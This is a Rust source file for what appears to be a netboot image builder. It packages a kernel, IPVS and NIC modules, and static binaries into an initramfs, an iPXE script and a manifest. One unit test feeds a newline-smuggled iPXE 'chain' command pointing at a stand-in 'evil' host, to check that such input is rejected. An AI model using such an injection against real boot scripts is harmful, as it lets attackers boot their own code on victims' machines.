@@ -1,0 +1,731 @@
+//! `image build`: kernel package + static binaries → `vmlinuz`, `initrd.img`, `boot.ipxe`,
+//! `manifest.json`, written to a temporary directory beside the output and renamed into place.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fs;
+use std::io::{self, Write};
+use std::path::{Path, PathBuf};
+
+use thiserror::Error;
+
+use crate::compress::Compression;
+use crate::cpio::{normalize_guest_path, NodeKind, Tree, TreeError};
+use crate::deb::{self, DebError, KernelPackage};
+use crate::elf::{self, BinaryKindError, ModinfoError};
+use crate::manifest::{
+    self, FileEntry, ImageInfo, KernelSource, Manifest, ModuleEntry, Totals, MANIFEST_FORMAT,
+};
+use crate::modules::{self, KernelModule, ModuleError, ModuleIndex, Root};
+
+/// Kernel command line used when `--cmdline` is not given. The last `console=` becomes
+/// /dev/console, so the serial port gets init's output; `panic=10` reboots a wedged box.
+pub const DEFAULT_CMDLINE: &str = "console=tty0 console=ttyS0,115200n8 panic=10";
+
+/// x86's COMMAND_LINE_SIZE, including the terminating NUL.
+const MAX_CMDLINE: usize = 2047;
+
+/// Module directories whose members are NIC drivers (coldplugged by init, not in modules.boot).
+const NIC_DRIVER_DIR: &str = "kernel/drivers/net/ethernet/";
+const IPVS_DIR: &str = "kernel/net/netfilter/ipvs/";
+
+/// Modules always wanted besides IPVS and the NIC drivers.
+const DEFAULT_MODULES: &[&str] = &[
+    "ip_vs",
+    "nf_conntrack",
+    // virtio PCI stack: virtio_pci is the bus driver, absent from virtio_net's depends=.
+    "virtio",
+    "virtio_ring",
+    "virtio_pci",
+    "virtio_pci_modern_dev",
+    "virtio_pci_legacy_dev",
+    "failover",
+    "net_failover",
+    "virtio_net",
+    // Topologies: VLANs, bonds, macvlan, IP-in-IP for LVS-TUN, and test links in a guest.
+    "8021q",
+    "bonding",
+    "macvlan",
+    "ipip",
+    "dummy",
+    "veth",
+    "bridge",
+    "tun",
+    // ACPI power button → input event KEY_POWER for init's orderly shutdown.
+    "button",
+    "evdev",
+];
+const OPTIONAL_MODULES: &[&str] = &["nf_conntrack_netlink"];
+
+/// An extra host file for the initramfs (`--add HOST:GUEST`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ExtraFile {
+    pub host: PathBuf,
+    /// Absolute guest path.
+    pub guest: String,
+}
+
+impl std::str::FromStr for ExtraFile {
+    type Err = String;
+
+    /// `HOST_PATH:GUEST_PATH`, split at the first `:`; the guest path must be absolute.
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        let (host, guest) = s
+            .split_once(':')
+            .ok_or_else(|| format!("{s:?} is not HOST_PATH:GUEST_PATH"))?;
+        if host.is_empty() {
+            return Err(format!("{s:?} has an empty HOST_PATH"));
+        }
+        normalize_guest_path(guest).map_err(|e| e.to_string())?;
+        Ok(ExtraFile {
+            host: PathBuf::from(host),
+            guest: guest.to_string(),
+        })
+    }
+}
+
+/// Everything `build` needs; defaults are resolved by the caller.
+#[derive(Debug, Clone)]
+pub struct BuildOptions {
+    pub out: PathBuf,
+    pub kernel_deb: PathBuf,
+    pub init: PathBuf,
+    pub lbd: PathBuf,
+    pub extra_files: Vec<ExtraFile>,
+    /// Extra module roots (`--module`), added to the default set with their dependencies.
+    pub extra_modules: Vec<String>,
+    /// Kernel command line without `initrd=` (added automatically); `None` = default.
+    pub cmdline: Option<String>,
+    pub compression: Compression,
+    /// mtime of every initramfs entry (0, or SOURCE_DATE_EPOCH).
+    pub mtime: u32,
+}
+
+#[derive(Debug, Error)]
+pub enum BuildError {
+    #[error("cannot read {what} {path}: {source}")]
+    ReadInput {
+        what: String,
+        path: PathBuf,
+        #[source]
+        source: io::Error,
+    },
+    #[error("{what} {path} {source}")]
+    NotStatic {
+        what: String,
+        path: PathBuf,
+        #[source]
+        source: BinaryKindError,
+    },
+    #[error("{what} {path} is a directory; --add takes single files")]
+    IsDirectory { what: String, path: PathBuf },
+    #[error(transparent)]
+    Deb(#[from] DebError),
+    #[error("module {module} in {package}: {source}")]
+    Modinfo {
+        module: String,
+        package: PathBuf,
+        #[source]
+        source: ModinfoError,
+    },
+    #[error(
+        "module {module} was built for kernel {vermagic:?}, but the package's kernel is {version}"
+    )]
+    WrongKernel {
+        module: String,
+        vermagic: String,
+        version: String,
+    },
+    #[error(transparent)]
+    Module(#[from] ModuleError),
+    #[error(transparent)]
+    Tree(#[from] TreeError),
+    #[error("invalid kernel command line: {0}")]
+    Cmdline(String),
+    #[error("refusing to replace {path}: {reason}")]
+    OutputInUse { path: PathBuf, reason: &'static str },
+    #[error("cannot write output {path}: {source}")]
+    Output {
+        path: PathBuf,
+        #[source]
+        source: io::Error,
+    },
+    #[error("cannot {format}-compress the initramfs: {source}")]
+    Compress {
+        format: &'static str,
+        #[source]
+        source: io::Error,
+    },
+}
+
+/// Reads a file given on the command line, naming it in the error.
+fn read_input(what: &str, path: &Path) -> Result<Vec<u8>, BuildError> {
+    if path.is_dir() {
+        return Err(BuildError::IsDirectory {
+            what: what.to_string(),
+            path: path.to_path_buf(),
+        });
+    }
+    fs::read(path).map_err(|source| BuildError::ReadInput {
+        what: what.to_string(),
+        path: path.to_path_buf(),
+        source,
+    })
+}
+
+fn read_static_binary(what: &str, path: &Path) -> Result<Vec<u8>, BuildError> {
+    let data = read_input(what, path)?;
+    elf::check_static_x86_64(&data).map_err(|source| BuildError::NotStatic {
+        what: what.to_string(),
+        path: path.to_path_buf(),
+        source,
+    })?;
+    Ok(data)
+}
+
+/// The final command line: `initrd=initrd.img` first (iPXE's EFI loader needs it to hand the
+/// initrd to the kernel), then the user's or the default parameters.
+pub fn full_cmdline(user: Option<&str>) -> Result<String, BuildError> {
+    let params = user.unwrap_or(DEFAULT_CMDLINE).trim();
+    if params.chars().any(|c| c.is_control()) {
+        return Err(BuildError::Cmdline(
+            "contains a control character (newline?); it must be one line".into(),
+        ));
+    }
+    let has_initrd = params.split_whitespace().any(|p| p.starts_with("initrd="));
+    let cmdline = if has_initrd {
+        params.to_string()
+    } else if params.is_empty() {
+        "initrd=initrd.img".to_string()
+    } else {
+        format!("initrd=initrd.img {params}")
+    };
+    if cmdline.len() > MAX_CMDLINE {
+        return Err(BuildError::Cmdline(format!(
+            "{} bytes; the x86 kernel accepts at most {MAX_CMDLINE}",
+            cmdline.len()
+        )));
+    }
+    Ok(cmdline)
+}
+
+/// `boot.ipxe`: relative URLs, so it works wherever the pxe server serves the directory.
+pub fn ipxe_script(cmdline: &str) -> String {
+    format!("#!ipxe\nkernel vmlinuz {cmdline}\ninitrd initrd.img\nboot\n")
+}
+
+/// The default module roots present in `index` plus the user's extras.
+fn module_roots(index: &ModuleIndex, extra: &[String]) -> Vec<Root> {
+    let mut roots: Vec<Root> = DEFAULT_MODULES.iter().map(|n| Root::required(n)).collect();
+    roots.extend(OPTIONAL_MODULES.iter().map(|n| Root::optional(n)));
+    roots.extend(
+        index
+            .names_under(IPVS_DIR)
+            .iter()
+            .map(|n| Root::required(n)),
+    );
+    roots.extend(
+        index
+            .names_under(NIC_DRIVER_DIR)
+            .iter()
+            .map(|n| Root::required(n)),
+    );
+    roots.extend(extra.iter().map(|n| Root::required(n)));
+    roots
+}
+
+fn is_nic_driver(module: &KernelModule) -> bool {
+    module.path.starts_with(NIC_DRIVER_DIR)
+}
+
+/// Parses every module's `.modinfo` into an index.
+fn index_modules(package: &KernelPackage, deb: &Path) -> Result<ModuleIndex, BuildError> {
+    let mut modules = Vec::with_capacity(package.modules.len());
+    for (path, data) in &package.modules {
+        let info = elf::modinfo_from_elf(data).map_err(|source| BuildError::Modinfo {
+            module: path.clone(),
+            package: deb.to_path_buf(),
+            source,
+        })?;
+        if let Some(vermagic) = &info.vermagic {
+            if vermagic.split_whitespace().next() != Some(package.version.as_str()) {
+                return Err(BuildError::WrongKernel {
+                    module: path.clone(),
+                    vermagic: vermagic.clone(),
+                    version: package.version.clone(),
+                });
+            }
+        }
+        let name = info
+            .name
+            .as_deref()
+            .map(modules::normalize_name)
+            .unwrap_or_else(|| modules::name_from_path(path));
+        modules.push(KernelModule {
+            name,
+            path: path.clone(),
+            size: data.len() as u64,
+            info,
+        });
+    }
+    let builtin: BTreeSet<String> = package
+        .module_lists
+        .get("modules.builtin")
+        .map(|text| {
+            String::from_utf8_lossy(text)
+                .lines()
+                .filter(|l| !l.trim().is_empty())
+                .map(|l| modules::name_from_path(l.trim()))
+                .collect()
+        })
+        .unwrap_or_default();
+    Ok(ModuleIndex::new(modules, builtin)?)
+}
+
+/// What `build` produced, in memory, before it is written out.
+pub struct Image {
+    pub vmlinuz: Vec<u8>,
+    pub initrd: Vec<u8>,
+    pub ipxe: String,
+    pub manifest: Manifest,
+}
+
+/// Builds the image in memory (no output is written).
+pub fn assemble(options: &BuildOptions) -> Result<Image, BuildError> {
+    // Cheap checks first, so a wrong binary fails before the 30 MB package is unpacked.
+    let init = read_static_binary("init binary", &options.init)?;
+    let lbd = read_static_binary("lbd binary", &options.lbd)?;
+    let mut extra = Vec::new();
+    for file in &options.extra_files {
+        let data = read_input("--add file", &file.host)?;
+        let perm = host_perm(&file.host);
+        extra.push((file, data, perm));
+    }
+    let cmdline = full_cmdline(options.cmdline.as_deref())?;
+
+    let package_bytes_sha = sha256_file(&options.kernel_deb)?;
+    let package = deb::read_kernel_package(&options.kernel_deb)?;
+    let version = package.version.clone();
+    let index = index_modules(&package, &options.kernel_deb)?;
+
+    let roots = module_roots(&index, &options.extra_modules);
+    let closure = index.closure(&roots)?;
+    let order = index.load_order(&closure.modules)?;
+    // Boot list: the closure of the non-NIC roots, in the global load order.
+    let boot_roots: Vec<Root> = roots
+        .iter()
+        .filter(|r| index.get(&r.name).is_some_and(|m| !is_nic_driver(m)))
+        .cloned()
+        .collect();
+    let boot_set = index.closure(&boot_roots)?.modules;
+    let boot_order: Vec<String> = order
+        .iter()
+        .filter(|n| boot_set.contains(*n) && !is_nic_driver(index.get(n).expect("indexed")))
+        .cloned()
+        .collect();
+
+    let kernel_package = options
+        .kernel_deb
+        .file_name()
+        .map(|n| n.to_string_lossy().into_owned())
+        .unwrap_or_default();
+    let image_info = ImageInfo {
+        format: MANIFEST_FORMAT,
+        kernel_version: version.clone(),
+        kernel_package: kernel_package.clone(),
+        kernel_package_sha256: package_bytes_sha.clone(),
+        builder: format!("image {}", env!("CARGO_PKG_VERSION")),
+        compression: options.compression.name().to_string(),
+        cmdline: cmdline.clone(),
+        init_sha256: manifest::sha256_hex(&init),
+        lbd_sha256: manifest::sha256_hex(&lbd),
+        extra_files: extra
+            .iter()
+            .map(|(f, data, _)| (f.guest.clone(), manifest::sha256_hex(data)))
+            .collect::<BTreeMap<_, _>>(),
+        modules: order.len() as u64,
+        boot_modules: boot_order.len() as u64,
+    };
+
+    let mut tree = Tree::new();
+    for dir in ["/dev", "/proc", "/sys", "/run", "/etc", "/etc/lb", "/bin"] {
+        tree.add_dir(dir, 0o755)?;
+    }
+    tree.add_dir("/tmp", 0o1777)?;
+    tree.add_char_dev("/dev/console", 0o600, 5, 1)?;
+    tree.add_char_dev("/dev/null", 0o666, 1, 3)?;
+    tree.add_file("/init", 0o755, init)?;
+    tree.add_file("/bin/lbd", 0o755, lbd)?;
+
+    let moddir = format!("/lib/modules/{version}");
+    tree.add_dir(&moddir, 0o755)?;
+    for name in &order {
+        let module = index.get(name).expect("closure members are indexed");
+        let data = package.modules[&module.path].clone();
+        tree.add_file(&format!("{moddir}/{}", module.path), 0o644, data)?;
+    }
+    tree.add_file(
+        &format!("{moddir}/modules.dep"),
+        0o644,
+        index.modules_dep(&order).into_bytes(),
+    )?;
+    tree.add_file(
+        &format!("{moddir}/modules.alias"),
+        0o644,
+        index.modules_alias(&order).into_bytes(),
+    )?;
+    tree.add_file(
+        &format!("{moddir}/modules.softdep"),
+        0o644,
+        index.modules_softdep(&order).into_bytes(),
+    )?;
+    for list in ["modules.builtin", "modules.builtin.modinfo"] {
+        if let Some(data) = package.module_lists.get(list) {
+            tree.add_file(&format!("{moddir}/{list}"), 0o644, data.clone())?;
+        }
+    }
+    tree.add_file(
+        "/etc/lb/modules.boot",
+        0o644,
+        modules::modules_boot(&boot_order).into_bytes(),
+    )?;
+    tree.add_file("/etc/lb/image.json", 0o644, manifest::to_json(&image_info))?;
+    for (file, data, perm) in extra {
+        tree.add_file(&file.guest, perm, data)?;
+    }
+
+    let mut cpio = Vec::new();
+    let uncompressed = tree
+        .write_cpio(&mut cpio, options.mtime)
+        .expect("writing to memory cannot fail");
+    let initrd = options
+        .compression
+        .compress(&cpio)
+        .map_err(|source| BuildError::Compress {
+            format: options.compression.name(),
+            source,
+        })?;
+    drop(cpio);
+
+    let ipxe = ipxe_script(&cmdline);
+    let mut initramfs_files = Vec::new();
+    for (path, node) in tree.iter() {
+        if let NodeKind::File(data) = &node.kind {
+            let mut entry = FileEntry::new(path, data);
+            entry.mode = Some(format!("{:04o}", node.perm));
+            initramfs_files.push(entry);
+        }
+    }
+    let module_entries: Vec<ModuleEntry> = order
+        .iter()
+        .map(|name| {
+            let m = index.get(name).expect("indexed");
+            ModuleEntry {
+                name: m.name.clone(),
+                path: m.path.clone(),
+                size: m.size,
+                depends: m
+                    .info
+                    .depends
+                    .iter()
+                    .map(|d| modules::normalize_name(d))
+                    .collect(),
+                boot: boot_set.contains(name) && !is_nic_driver(m),
+                nic: is_nic_driver(m),
+                softdeps: m.info.softdeps.clone(),
+                firmware: m.info.firmware.clone(),
+            }
+        })
+        .collect();
+    let manifest = Manifest {
+        format: MANIFEST_FORMAT,
+        kernel_version: version.clone(),
+        kernel: KernelSource {
+            package: kernel_package,
+            package_sha256: package_bytes_sha,
+            version,
+        },
+        compression: options.compression.name().to_string(),
+        cmdline,
+        outputs: vec![
+            FileEntry::new("vmlinuz", &package.vmlinuz),
+            FileEntry::new("initrd.img", &initrd),
+            FileEntry::new("boot.ipxe", ipxe.as_bytes()),
+        ],
+        totals: Totals {
+            initramfs_compressed_bytes: initrd.len() as u64,
+            initramfs_uncompressed_bytes: uncompressed,
+            initramfs_files: initramfs_files.len() as u64,
+            module_count: module_entries.len() as u64,
+            module_bytes: module_entries.iter().map(|m| m.size).sum(),
+        },
+        initramfs: initramfs_files,
+        modules: module_entries,
+        builtin_roots: closure.builtin_roots.into_iter().collect(),
+    };
+    Ok(Image {
+        vmlinuz: package.vmlinuz,
+        initrd,
+        ipxe,
+        manifest,
+    })
+}
+
+/// Builds and writes the image to `options.out`, replacing a previous image there.
+pub fn build(options: &BuildOptions) -> Result<Manifest, BuildError> {
+    check_output_replaceable(&options.out)?;
+    let image = assemble(options)?;
+    write_output(&options.out, &image)?;
+    Ok(image.manifest)
+}
+
+fn host_perm(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    fs::metadata(path)
+        .map(|m| m.permissions().mode() & 0o7777)
+        .unwrap_or(0o644)
+}
+
+fn sha256_file(path: &Path) -> Result<String, BuildError> {
+    use sha2::{Digest, Sha256};
+    let mut file = fs::File::open(path).map_err(|source| {
+        BuildError::Deb(DebError::Io {
+            path: path.to_path_buf(),
+            source,
+        })
+    })?;
+    let mut hasher = Sha256::new();
+    let mut buf = vec![0u8; 1 << 16];
+    loop {
+        use std::io::Read;
+        let n = file.read(&mut buf).map_err(|source| {
+            BuildError::Deb(DebError::Io {
+                path: path.to_path_buf(),
+                source,
+            })
+        })?;
+        if n == 0 {
+            break;
+        }
+        hasher.update(&buf[..n]);
+    }
+    Ok(hasher
+        .finalize()
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect())
+}
+
+/// An existing output must be a previous image (has manifest.json) or an empty directory, so
+/// a typo in `--out` cannot wipe an unrelated directory.
+fn check_output_replaceable(out: &Path) -> Result<(), BuildError> {
+    let meta = match fs::symlink_metadata(out) {
+        Ok(meta) => meta,
+        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(()),
+        Err(source) => {
+            return Err(BuildError::Output {
+                path: out.to_path_buf(),
+                source,
+            })
+        }
+    };
+    if !meta.is_dir() {
+        return Err(BuildError::OutputInUse {
+            path: out.to_path_buf(),
+            reason: "it exists and is not a directory",
+        });
+    }
+    let empty = fs::read_dir(out)
+        .map(|mut d| d.next().is_none())
+        .unwrap_or(false);
+    if !empty && !out.join("manifest.json").is_file() {
+        return Err(BuildError::OutputInUse {
+            path: out.to_path_buf(),
+            reason: "it is a non-empty directory without manifest.json (not an image output)",
+        });
+    }
+    Ok(())
+}
+
+fn output_parent(out: &Path) -> Result<(PathBuf, String), BuildError> {
+    let name = out
+        .file_name()
+        .map(|n| n.to_string_lossy().into_owned())
+        .ok_or_else(|| BuildError::OutputInUse {
+            path: out.to_path_buf(),
+            reason: "it has no final path component",
+        })?;
+    let parent = match out.parent() {
+        Some(p) if !p.as_os_str().is_empty() => p.to_path_buf(),
+        _ => PathBuf::from("."),
+    };
+    Ok((parent, name))
+}
+
+fn write_file(path: &Path, data: &[u8]) -> Result<(), BuildError> {
+    let err = |source| BuildError::Output {
+        path: path.to_path_buf(),
+        source,
+    };
+    let mut file = fs::File::create(path).map_err(err)?;
+    file.write_all(data).map_err(err)?;
+    file.sync_all().map_err(err)
+}
+
+/// Writes into `<parent>/<name>.tmp-XXXX`, then swaps it into place; on any error the temp
+/// directory is removed and a previous image at `out` is left as it was.
+pub fn write_output(out: &Path, image: &Image) -> Result<(), BuildError> {
+    check_output_replaceable(out)?;
+    let (parent, name) = output_parent(out)?;
+    let out_err = |path: &Path| {
+        let path = path.to_path_buf();
+        move |source| BuildError::Output { path, source }
+    };
+    fs::create_dir_all(&parent).map_err(out_err(&parent))?;
+    let tmp = tempfile::Builder::new()
+        .prefix(&format!("{name}.tmp-"))
+        .tempdir_in(&parent)
+        .map_err(out_err(&parent))?;
+    write_file(&tmp.path().join("vmlinuz"), &image.vmlinuz)?;
+    write_file(&tmp.path().join("initrd.img"), &image.initrd)?;
+    write_file(&tmp.path().join("boot.ipxe"), image.ipxe.as_bytes())?;
+    write_file(
+        &tmp.path().join("manifest.json"),
+        &manifest::to_json(&image.manifest),
+    )?;
+    // Readable by the pxe server whatever our umask.
+    use std::os::unix::fs::PermissionsExt;
+    fs::set_permissions(tmp.path(), fs::Permissions::from_mode(0o755))
+        .map_err(out_err(tmp.path()))?;
+
+    if fs::symlink_metadata(out).is_ok() {
+        let old = tempfile::Builder::new()
+            .prefix(&format!("{name}.old-"))
+            .tempdir_in(&parent)
+            .map_err(out_err(&parent))?
+            .keep();
+        // `old` is an empty directory: rename(2) replaces it with the previous image.
+        fs::rename(out, &old).map_err(out_err(out))?;
+        if let Err(source) = fs::rename(tmp.path(), out) {
+            let _ = fs::rename(&old, out);
+            return Err(BuildError::Output {
+                path: out.to_path_buf(),
+                source,
+            });
+        }
+        let _ = tmp.keep();
+        fs::remove_dir_all(&old).map_err(out_err(&old))?;
+    } else {
+        fs::rename(tmp.path(), out).map_err(out_err(out))?;
+        let _ = tmp.keep();
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn cmdline_gets_initrd_first() {
+        assert_eq!(
+            full_cmdline(None).unwrap(),
+            format!("initrd=initrd.img {DEFAULT_CMDLINE}")
+        );
+        assert_eq!(
+            full_cmdline(Some("console=ttyS0 lb.debug")).unwrap(),
+            "initrd=initrd.img console=ttyS0 lb.debug"
+        );
+        assert_eq!(
+            full_cmdline(Some("initrd=other.img quiet")).unwrap(),
+            "initrd=other.img quiet"
+        );
+        assert_eq!(full_cmdline(Some("")).unwrap(), "initrd=initrd.img");
+        assert!(full_cmdline(Some("a\nchain http://evil/")).is_err());
+        assert!(full_cmdline(Some(&"x".repeat(3000))).is_err());
+    }
+
+    #[test]
+    fn ipxe_script_is_relative() {
+        assert_eq!(
+            ipxe_script("initrd=initrd.img console=ttyS0"),
+            "#!ipxe\nkernel vmlinuz initrd=initrd.img console=ttyS0\ninitrd initrd.img\nboot\n"
+        );
+    }
+
+    #[test]
+    fn add_spec_parsing() {
+        let spec: ExtraFile = "/usr/sbin/ipvsadm:/sbin/ipvsadm".parse().unwrap();
+        assert_eq!(spec.host, PathBuf::from("/usr/sbin/ipvsadm"));
+        assert_eq!(spec.guest, "/sbin/ipvsadm");
+        assert!("/usr/sbin/ipvsadm".parse::<ExtraFile>().is_err());
+        assert!("/x:relative".parse::<ExtraFile>().is_err());
+        assert!(":/x".parse::<ExtraFile>().is_err());
+        assert!("/x:/a/../b".parse::<ExtraFile>().is_err());
+    }
+
+    #[test]
+    fn refuses_to_replace_unrelated_directories() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("out");
+        assert!(check_output_replaceable(&out).is_ok());
+        fs::create_dir(&out).unwrap();
+        assert!(check_output_replaceable(&out).is_ok());
+        fs::write(out.join("precious.txt"), b"x").unwrap();
+        assert!(matches!(
+            check_output_replaceable(&out),
+            Err(BuildError::OutputInUse { .. })
+        ));
+        fs::write(out.join("manifest.json"), b"{}").unwrap();
+        assert!(check_output_replaceable(&out).is_ok());
+        let file = dir.path().join("file");
+        fs::write(&file, b"x").unwrap();
+        assert!(check_output_replaceable(&file).is_err());
+    }
+
+    fn tiny_image(tag: &str) -> Image {
+        Image {
+            vmlinuz: tag.as_bytes().to_vec(),
+            initrd: b"initrd".to_vec(),
+            ipxe: ipxe_script("initrd=initrd.img"),
+            manifest: Manifest {
+                format: MANIFEST_FORMAT,
+                kernel_version: "1".into(),
+                kernel: KernelSource {
+                    package: "k.deb".into(),
+                    package_sha256: String::new(),
+                    version: "1".into(),
+                },
+                compression: "gzip".into(),
+                cmdline: "initrd=initrd.img".into(),
+                outputs: vec![],
+                initramfs: vec![],
+                modules: vec![],
+                builtin_roots: vec![],
+                totals: Totals {
+                    initramfs_compressed_bytes: 0,
+                    initramfs_uncompressed_bytes: 0,
+                    initramfs_files: 0,
+                    module_count: 0,
+                    module_bytes: 0,
+                },
+            },
+        }
+    }
+
+    #[test]
+    fn output_is_swapped_into_place_without_leftovers() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("img");
+        write_output(&out, &tiny_image("first")).unwrap();
+        assert_eq!(fs::read(out.join("vmlinuz")).unwrap(), b"first");
+        fs::write(out.join("stale"), b"from an older build").unwrap();
+        write_output(&out, &tiny_image("second")).unwrap();
+        assert_eq!(fs::read(out.join("vmlinuz")).unwrap(), b"second");
+        assert!(!out.join("stale").exists());
+        let names: Vec<String> = fs::read_dir(dir.path())
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
+        assert_eq!(names, ["img"]);
+    }
+}
